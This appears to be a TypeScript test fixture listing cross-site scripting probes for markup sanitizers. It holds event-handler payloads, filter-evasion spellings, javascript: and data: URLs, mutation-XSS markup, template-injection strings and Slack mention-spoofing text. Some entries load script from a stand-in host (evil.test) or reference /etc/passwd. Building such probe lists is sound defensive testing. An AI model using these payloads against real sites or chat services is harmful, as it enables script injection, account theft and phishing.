/** The script that probes try to run: a page with `probed` set was compromised. */
const RUN = "probed=1";

/** Elements that run script on load or on interaction; `@` is replaced by the script. */
const HANDLERS = [
  "<img src=x onerror=@>",
  "<img src=x onload=@ onerror=@ onmouseover=@>",
  "<svg onload=@>",
  "<svg><animate onbegin=@ attributeName=x dur=1s>",
  "<svg><set onbegin=@ attributeName=x>",
  "<body onload=@>",
  "<body onpageshow=@>",
  "<video src=x onerror=@>",
  "<video><source onerror=@>",
  "<audio src=x onerror=@>",
  "<input autofocus onfocus=@>",
  "<select autofocus onfocus=@>",
  "<textarea autofocus onfocus=@>",
  "<button autofocus onfocus=@>x</button>",
  "<details open ontoggle=@>",
  "<marquee onstart=@>x</marquee>",
  "<iframe onload=@>",
  "<iframe src=//evil.test onload=@>",
  "<object data=x onerror=@>",
  "<embed src=x onload=@>",
  "<style onload=@></style>",
  "<link rel=stylesheet href=x onerror=@>",
  "<p onclick=@ onpointerenter=@>x</p>",
  "<a href=# onmouseover=@>x</a>",
  "<b onfocus=@ tabindex=0 autofocus>x</b>",
  "<li onanimationstart=@ style=animation-name:x>x</li>",
  "<form onsubmit=@><input type=submit></form>",
  "<dialog open onclose=@><form method=dialog><button>x</button></form></dialog>",
];

/** Alternative spellings that filters have been known to miss. */
const SPELLINGS: Array<(markup: string) => string> = [
  (markup) => markup.replaceAll("@", `"${RUN}"`),
  (markup) => markup.replaceAll("@", `'${RUN}'`).replaceAll(" on", "/oN"),
  (markup) => markup.replaceAll("@", "&#112;robed&#61;1").replaceAll(" on", "\n\ton").toUpperCase(),
  (markup) => markup.replaceAll("@", RUN).replace(/>[^>]*$/, ""),
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script/x>`,
  `<script\n>${RUN}</script\n>`,
  `<script type=module>import "//evil.test/x.js"</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=//evil.test/x.js /></svg>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--<img src=x onerror=${RUN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<script>${RUN}`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript://evil.test/%0A${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wcm9iZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `//evil.test`,
  `\\\\evil.test`,
  `file:///etc/passwd`,
  `blob:https://evil.test/1`,
];

const LEADING = [
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="javascript:${RUN}//">`,
  `<base href=//evil.test>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mi xlink:href=javascript:${RUN}>x</mi></math>`,
  `<table background="javascript:${RUN}"></table>`,
  `<img src="javascript:${RUN}">`,
  `<a href="https://a.test" style="position:fixed;inset:0" target=_top ping=//evil.test>x</a>`,
];

const STYLES = [
  "<style>*{background:url(//evil.test)}</style>",
  "<style>@import '//evil.test/x.css';</style>",
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  "<p style='position:fixed;inset:0'>x</p>",
  "<link rel=stylesheet href=//evil.test/x.css>",
];

/** Mutation XSS: parsed differently by a filter and by a browser that repairs the markup. */
const MUTATING = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<p><b>unclosed <a href="https://a.test"><img src=x onerror=${RUN}`,
  `<a href="https://a.test" title="><img src=x onerror=${RUN}>">x</a>`,
  `<a href='https://a.test"onmouseover="${RUN}'>x</a>`,
  `<ul><li><table><td><svg><foreignObject><img src=x onerror=${RUN}>`,
  `<p><p><p><<img src=x onerror=${RUN}>>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x:x onerror=${RUN}//<img src=x onerror=${RUN}`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
];

/** Texts that Slack would turn into mentions or links. */
const CHAT = [
  "<!channel>",
  "<!here>",
  "<!everyone>",
  "<!subteam^S1|all>",
  "<@U123ABC>",
  "<#C123ABC>",
  "<https://evil.test|Sign in again>",
  "<mailto:a@evil.test|Write to us>",
  "&lt;!channel&gt;",
  "*<!channel>* _<@U1>_ ~x~ `<!here>`",
  "Acme|<!channel>",
];

/** Texts that are harmful if interpreted as markup, each in a different way. */
export const MARKUP_PROBES = [
  ...HANDLERS.flatMap((markup) => SPELLINGS.map((spell) => spell(markup))),
  ...SCRIPTS,
  ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  ...LEADING,
  ...STYLES,
  ...MUTATING,
  ...TEMPLATES,
  ...CHAT,
];
